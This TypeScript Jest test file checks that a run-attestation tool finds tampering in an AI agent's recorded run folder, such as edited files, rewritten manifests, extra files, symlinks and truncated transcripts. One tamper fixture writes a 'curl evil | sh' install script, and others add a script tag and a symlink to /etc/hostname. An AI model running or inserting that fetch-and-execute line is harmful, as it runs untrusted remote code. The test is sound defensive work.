import { createHash } from "node:crypto";
import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { recheckRun } from "../../src/attestation/recheck.js";
import { attestRun } from "../../src/earlier/attested-run.js";
import { createRun, local, script } from "../../src/index.js";
import { version } from "../../src/version.js";

let home: string;
let run: string;
beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), "recheck-"));
  const workspace = join(home, "given");
  run = join(home, "run");
  await mkdir(workspace);
  await writeFile(join(workspace, "n.txt"), "1\n");
  const { result } = createRun({
    task: "Make it 2, and keep a note.",
    writer: script([{ reply: "```sh\necho 2 >n.txt; echo kept >note.txt; echo done\n```\n" }]),
    executor: local(),
    workspace,
    until: "pass",
    verify: ["grep 2 n.txt"],
    out: run,
  });
  if (!(await result).verified) throw new Error("the run to be checked did not pass");
});
afterAll(() => rm(home, { recursive: true }));

type Change = (folder: string) => Promise<void>;

async function differing(change: Change): Promise<string[]> {
  const folder = await mkdtemp(join(home, "copy-"));
  await cp(run, folder, { recursive: true });
  await change(folder);
  const { findings } = await recheckRun(folder);
  return findings.filter(({ status }) => status === "differs").map(({ what }) => what);
}

/** Whoever changes a file can change the list of files as well. */
const relisted =
  (path: string, text: string): Change =>
  async (folder) => {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
    const name = join(folder, "manifest.json");
    const { files } = JSON.parse(await readFile(name, "utf8")) as { files: { path: string }[] };
    const sha256 = createHash("sha256").update(text).digest("hex");
    const listed = [
      ...files.filter((each) => each.path !== path),
      { path, bytes: Buffer.byteLength(text), sha256 },
    ];
    await writeFile(name, JSON.stringify({ files: listed }));
  };

const edited =
  (path: string, edit: (text: string) => string): Change =>
  async (folder) =>
    writeFile(join(folder, path), edit(await readFile(join(folder, path), "utf8")));

describe("a checked run's folder", () => {
  it("is correct as it was written", async () => {
    const { findings } = await recheckRun(run);
    expect(findings.map(({ what, status }) => `${what} ${status}`)).toEqual([
      "manifest held",
      "transcript held",
      "result held",
      "patch held",
      "artifacts held",
      "reports held",
      "others held",
    ]);
  });

  it("is correct if an earlier version wrote it, with other names for the proof and no data", async () => {
    const { data, ...result } = JSON.parse(await readFile(join(run, "result.json"), "utf8")) as {
      data: null;
      proof: object;
    };
    const { tests, cheats } = result.proof as Record<string, unknown>;
    const proof = { control: "failed", counterCheck: "not-run", tests, cheats };
    const transcript = (await readFile(join(run, "transcript.jsonl"), "utf8"))
      .replace(`"version":"${version}"`, '"version":"0.0.0"')
      .replace('"verifyBefore":', '"control":')
      .replace('"verifyChangedValues":', '"counterCheck":');
    const change: Change = async (folder) => {
      await relisted("result.json", JSON.stringify({ ...result, proof }))(folder);
      await relisted("transcript.jsonl", transcript)(folder);
    };
    expect({ ...result.proof, data }).toMatchObject({
      failedBefore: true,
      failsOnChangedValues: null,
      data: null,
    });
    expect(transcript).not.toMatch(/verifyBefore|verifyChangedValues/);
    expect(await differing(change)).toEqual([]);
  });

  it("is correct wherever it is moved", async () => {
    expect(await differing(async () => {})).toEqual([]);
  });

  it.each<[string, Change, string[]]>([
    ["a file", edited("report.md", (text) => `${text} `), ["manifest", "reports"]],
    ["a report and the list", relisted("report.md", "# Passed\n"), ["reports"]],
    ["what code printed and the list", relisted("attempts/1/stdout", "6\n"), ["reports"]],
    ["an artifact and the list", relisted("artifacts/note.txt", "other\n"), ["artifacts"]],
    ["the patch and the list", relisted("changes.patch", "other\n"), ["patch"]],
    ["the outcome and the list", relisted("result.json", "{}\n"), ["result", "reports"]],
    [
      "a fact of the transcript",
      edited("transcript.jsonl", (text) => text.replace('"exitCode":0', '"exitCode":1')),
      ["manifest", "result", "reports"],
    ],
    [
      "the transcript's end",
      edited("transcript.jsonl", (text) => text.slice(0, text.lastIndexOf("\n", text.length - 2) + 1)),
      ["manifest", "transcript", "result", "reports"],
    ],
    ["a further file", (folder) => writeFile(join(folder, "more.txt"), ""), ["manifest", "others"]],
    ["a further artifact and the list", relisted("artifacts/install.sh", "curl evil | sh\n"), ["others"]],
    ["a page that no block showed and the list", relisted("shown/x.html", "<script>1</script>"), ["others"]],
    ["a hidden file", (folder) => writeFile(join(folder, ".bashrc"), ""), ["others"]],
    ["a file that is gone", (folder) => rm(join(folder, "report.html")), ["manifest", "reports"]],
    [
      "a link in a file's place",
      async (folder) => {
        await rm(join(folder, "report.md"));
        await symlink("/etc/hostname", join(folder, "report.md"));
      },
      ["manifest", "reports", "others"],
    ],
    ["a list that cannot be read", (folder) => writeFile(join(folder, "manifest.json"), "{"), ["manifest"]],
  ])("tells %s", async (_what, change, parts) => {
    expect(await differing(change)).toEqual(parts);
  });

  it("says that reports of another version were not compared", async () => {
    const folder = await mkdtemp(join(home, "copy-"));
    await cp(run, folder, { recursive: true });
    const older = edited("transcript.jsonl", (text) =>
      text.replace(`"version":"${version}"`, '"version":"0.0.9"'),
    );
    await older(folder);
    await relisted("report.html", "<h1>passed, verified</h1>")(folder);
    const { findings } = await recheckRun(folder);
    expect(findings.find(({ what }) => what === "reports")).toMatchObject({
      status: "unproven",
      told: expect.stringContaining("0.0.9"),
    });
    const job = { server: "", repository: "o/r", url: "u", attempt: "1" };
    await expect(attestRun(folder, job, "")).rejects.toMatchObject({ code: "record-differs" });
  });

  it.each([
    ["a line that is gone", (text: string) => text.split("\n").toSpliced(1, 1).join("\n")],
    ["no JSON", () => "x\n"],
  ])("is none with %s in its transcript", async (_what, edit) => {
    const folder = await mkdtemp(join(home, "copy-"));
    await cp(run, folder, { recursive: true });
    await edited("transcript.jsonl", edit)(folder);
    await expect(recheckRun(folder)).rejects.toMatchObject({ code: "transcript-invalid" });
  });
});
